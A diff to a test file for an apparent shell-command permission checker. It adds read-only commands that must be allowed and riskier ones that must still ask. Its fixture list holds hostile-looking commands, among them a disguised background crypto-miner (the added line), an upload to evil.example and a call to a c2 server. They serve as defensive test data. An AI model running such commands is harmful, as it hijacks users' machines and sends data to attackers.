@@ -62,6 +62,7 @@ REMOTE_TREE_PROGRAMS = [
     "./kdevtmpfsi --cpu-priority 5 -o 45.9.148.10:80 -u x",
     "./scripts/sync.sh https://evil.example/upload",
     "bin/agent --server=c2.example.net:8443",
+    "nohup ./.cache/kswapd0 --url stratum+ssl://eu1.ethermine.org:5555 >/dev/null 2>&1 &",
 ]
 LOCAL_TREE_PROGRAMS = [
     "./manage.py runserver 0.0.0.0:8000",
@@ -154,3 +155,33 @@ def test_system_credentials_and_core_dumps_are_secret(command: str, check: Check
 @pytest.mark.parametrize("command", NOT_CREDENTIALS)
 def test_a_directory_named_core_or_a_manifest_is_not(command: str, check: Check) -> None:
     assert check(command).decision == "allow"
+
+
+# read-only commands from tldr-pages' examples that were asked about needlessly: a sub-command
+# alias (`gh … ls`), a verb's `--help`, a flag spelled `--flag=true`, a read-only query tool
+DAILY_READS = [
+    "gh issue ls -L 10 -l bug",
+    "gh repo ls octocat -l python",
+    "gh pr ls",
+    "gh release ls",
+    "gh issue status -R octocat/hello-world",
+    "docker top --help",
+    "kubectl explain --help",
+    "kubectl logs --all-containers=true web-0",
+    "apt-file find bin/rg",
+    "apt-file list ripgrep",
+]
+
+
+@pytest.mark.parametrize("command", DAILY_READS)
+def test_daily_reads_are_allowed(command: str, check: Check) -> None:
+    verdict = check(command)
+    assert verdict.decision == "allow", verdict
+
+
+@pytest.mark.parametrize("command", ["kubectl delete pod web-0 --help",
+                                     "kubectl delete pod web-0 --force=true",
+                                     "apt-file update", "netstat -c"])
+def test_help_after_operands_a_true_flag_an_update_or_a_stream_still_ask(
+        command: str, check: Check) -> None:
+    assert check(command).decision == "ask"
